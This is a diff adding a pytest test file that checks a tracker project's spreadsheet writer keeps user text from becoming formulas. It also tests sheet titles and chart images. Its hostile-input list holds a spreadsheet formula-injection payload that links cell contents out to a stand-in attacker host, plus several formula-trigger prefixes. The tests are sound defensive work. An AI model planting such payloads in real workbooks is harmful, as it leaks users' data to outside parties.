@@ -1,0 +1,133 @@
+"""Safe cell writing: user text never becomes a formula, whatever it starts with."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from tracker.reports.cells import MAX_CELL_TEXT, Column, put, put_status, write_table
+from tracker.reports.status_workbook import sheet_title
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign
+    "=1",
+    "==",
+    "=",
+]
+
+
+def _round_trip(tmp_path, values):
+    book = Workbook()
+    sheet = book.active
+    for row, value in enumerate(values, start=1):
+        put(sheet, row, 1, value)
+    path = tmp_path / "t.xlsx"
+    book.save(path)
+    return path, load_workbook(path).active
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_stays_text(tmp_path, text):
+    path, sheet = _round_trip(tmp_path, [text])
+    cell = sheet["A1"]
+    assert cell.data_type == "s"
+    # XML itself turns a carriage return into a line feed when the file is read back.
+    assert cell.value == text.replace("\r", "\n")
+    with zipfile.ZipFile(path) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+
+
+def test_formula_like_text_gets_a_quote_prefix_and_plain_text_does_not(tmp_path):
+    _path, sheet = _round_trip(tmp_path, ["=1+1", "+1", "Claims", "a=b"])
+    assert sheet["A1"].quotePrefix and sheet["A2"].quotePrefix
+    assert not sheet["A3"].quotePrefix and not sheet["A4"].quotePrefix
+
+
+def test_illegal_characters_are_dropped_and_long_text_cut(tmp_path):
+    _path, sheet = _round_trip(tmp_path, ["bell\x07 and nul\x00", "x" * (MAX_CELL_TEXT + 10)])
+    assert sheet["A1"].value == "bell and nul"
+    assert len(sheet["A2"].value) == MAX_CELL_TEXT
+
+
+def test_numbers_percentages_and_dates_keep_their_types(tmp_path):
+    book = Workbook()
+    sheet = book.active
+    cols = (Column("n", "int"), Column("p", "percent"), Column("d", "date"), Column("h", "status"))
+    write_table(sheet, 1, cols, [(3, 0.25, dt.date(2026, 3, 1), ("Red", "red"))])
+    path = tmp_path / "t.xlsx"
+    book.save(path)
+    sheet = load_workbook(path).active
+    assert sheet["A2"].value == 3 and sheet["A2"].data_type == "n"
+    assert sheet["B2"].value == 0.25 and sheet["B2"].number_format == "0%"
+    assert sheet["C2"].value == dt.datetime(2026, 3, 1) and sheet["C2"].is_date
+    assert sheet["D2"].value == "Red"
+    assert sheet["D2"].fill.start_color.rgb.endswith("F4C7C3")
+
+
+def test_status_without_a_known_colour_still_shows_its_word(tmp_path):
+    book = Workbook()
+    cell = put_status(book.active, 1, 1, "Unknown")
+    assert cell.value == "Unknown"
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("Claims triage assistant", "Claims triage assistant"),
+    ("A/B: test [v2]?", "A B test v2"),
+    ("'quoted'", "quoted"),
+    ("x" * 40, "x" * 31),
+    ("History", "History (2)"),
+    ("", "Rollout"),
+])
+def test_sheet_titles_are_valid(name, expected):
+    assert sheet_title(name, set()) == expected
+
+
+def test_sheet_titles_are_unique_ignoring_case():
+    used = {"summary"}
+    assert sheet_title("Summary", used) == "Summary (2)"
+    assert sheet_title("SUMMARY", used) == "SUMMARY (3)"
+    long = "y" * 40
+    assert sheet_title(long, used) == "y" * 31
+    assert sheet_title(long, used) == "y" * 27 + " (2)"
+
+
+def test_pictures_rendered_in_the_helper_process_match_those_drawn_here():
+    import datetime as dt
+
+    from tracker.domain.readiness import Stakeholder, SupportLevel
+    from tracker.reports.images import PARALLEL_FROM, Pictures, power_interest_png
+
+    people = [Stakeholder(i, 1, i, None, f"Person {i}", 1 + i % 5, 1 + (i * 2) % 5, SupportLevel.NEUTRAL,
+                          SupportLevel.CHAMPION) for i in range(1, 6)]
+    jobs = {k: (people[:1 + k % 5], dt.date(2026, 1, 1), 3.0, 2.5) for k in range(PARALLEL_FROM)}
+    with Pictures(jobs) as pictures:
+        assert pictures._process is not None, "enough pictures for a helper process"
+        images = {k: pictures.png(k) for k in jobs}
+    assert all(png.startswith(b"\x89PNG") for png in images.values())
+    assert images[3] == power_interest_png(*jobs[3])
+
+
+def test_pictures_without_a_helper_are_drawn_here(monkeypatch):
+    import datetime as dt
+    import subprocess
+
+    from tracker.domain.readiness import Stakeholder, SupportLevel
+    from tracker.reports.images import PARALLEL_FROM, Pictures
+
+    def no_processes(*args, **kwargs):
+        raise OSError("not allowed here")
+
+    monkeypatch.setattr(subprocess, "Popen", no_processes)
+    one = [Stakeholder(1, 1, 1, None, "Ann", 4, 4, SupportLevel.NEUTRAL, SupportLevel.CHAMPION)]
+    with Pictures({k: (one, dt.date(2026, 1, 1), 3.0, 2.5) for k in range(PARALLEL_FROM)}) as pictures:
+        assert pictures.png(0).startswith(b"\x89PNG")
